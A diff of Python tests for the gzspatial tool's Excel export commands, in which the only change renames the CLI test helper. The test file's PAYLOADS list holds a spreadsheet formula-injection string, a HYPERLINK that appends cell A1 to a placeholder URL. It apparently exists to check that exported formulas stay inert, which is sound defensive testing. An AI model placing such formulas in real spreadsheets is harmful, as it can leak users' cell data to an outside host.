@@ -16,7 +16,7 @@ from gzspatial import excel, io
 from gzspatial._errors import GzError
 from gzspatial.attribute import GZ_COLUMNS
 
-from .conftest import run_cli
+from .conftest import invoke_cli
 
 PAYLOADS = [
     '=HYPERLINK("http://example.invalid/?q="&A1,"click")',
@@ -261,7 +261,7 @@ def enterprises_xlsx(tmp_path):
 
 def test_join_to_xlsx_keeps_sheet_numbers_and_stable_gz_headers(tmp_path, enterprises_xlsx):
     out = tmp_path / "joined.xlsx"
-    result = run_cli("join", str(enterprises_xlsx), "-o", str(out), "--lang", "zh", "--quiet", "--crs", "wgs84")
+    result = invoke_cli("join", str(enterprises_xlsx), "-o", str(out), "--lang", "zh", "--quiet", "--crs", "wgs84")
     assert result.returncode == 0, result.stderr.decode()
     book = openpyxl.load_workbook(out)
     assert book.sheetnames == ["企业名录"]
@@ -282,20 +282,20 @@ def test_join_csv_to_xlsx_makes_coordinates_numbers(tmp_path):
     source = tmp_path / "in.csv"
     source.write_text("名称,经度,纬度\n甲,113.3245,23.1066\n乙,113.40,23.12\n", encoding="gbk")
     out = tmp_path / "out.xlsx"
-    assert run_cli("join", str(source), "-o", str(out), "--crs", "wgs84", "--quiet").returncode == 0
+    assert invoke_cli("join", str(source), "-o", str(out), "--crs", "wgs84", "--quiet").returncode == 0
     assert [r[1:3] for r in _cells(out)[1:]] == [[(113.3245, "n"), (23.1066, "n")], [(113.4, "n"), (23.12, "n")]]
     assert openpyxl.load_workbook(out).sheetnames == ["Sheet1"]
 
 
 def test_convert_and_sample_to_xlsx(tmp_path, enterprises_xlsx):
     out = tmp_path / "converted.xlsx"
-    result = run_cli("convert", str(enterprises_xlsx), "--from", "gcj02", "--to", "wgs84", "-o", str(out))
+    result = invoke_cli("convert", str(enterprises_xlsx), "--from", "gcj02", "--to", "wgs84", "-o", str(out))
     assert result.returncode == 0, result.stderr.decode()
     rows = _cells(out, "企业名录")
     assert [v for v, _ in rows[0]][-4:] == ["wgs84_lon", "wgs84_lat", "gz_status", "gz_note"]
     assert rows[2][0] == ('=HYPERLINK("http://example.invalid","乙")', "s") and rows[1][4][1] == "n"
     sample = tmp_path / "sample.xlsx"
-    assert run_cli("sample", "enterprises", "-n", "50", "-o", str(sample)).returncode == 0
+    assert invoke_cli("sample", "enterprises", "-n", "50", "-o", str(sample)).returncode == 0
     back = _cells(sample)
     header = [v for v, _ in back[0]]
     assert len(back) == 51 and {back[1][header.index(c)][1] for c in ("经度", "纬度", "成立年份")} == {"n"}
@@ -322,7 +322,7 @@ def joined_csv(tmp_path_factory, layers):
 def test_stats_to_xlsx(tmp_path, joined_csv, lang):
     out = tmp_path / "stats.xlsx"
     args = ["stats", str(joined_csv), "--by", "node", "--by", "core", "--category", "类别", "-o", str(out)]
-    result = run_cli(*args, *(["--lang", lang] if lang else []))
+    result = invoke_cli(*args, *(["--lang", lang] if lang else []))
     assert result.returncode == 0, result.stderr.decode()
     book = openpyxl.load_workbook(out)
     zh = lang == "zh"
